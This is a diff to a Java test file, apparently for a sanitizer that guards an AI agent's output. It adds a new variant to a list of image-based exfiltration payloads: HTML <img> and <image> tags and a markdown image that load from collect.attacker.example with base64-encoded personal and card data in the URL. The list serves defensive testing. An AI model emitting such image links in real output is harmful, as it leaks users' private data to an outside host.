@@ -216,6 +216,8 @@ class AgentPresetTest {
                 // an <img> whose earlier attribute holds '>' or '<'
                 "<img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 "<img alt='a<b' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // "<image" is "<img" to an HTML parser
+                "Hi <image src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> bye",
                 // an alt text of any length
                 "![" + "a".repeat(510)
                         + "](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
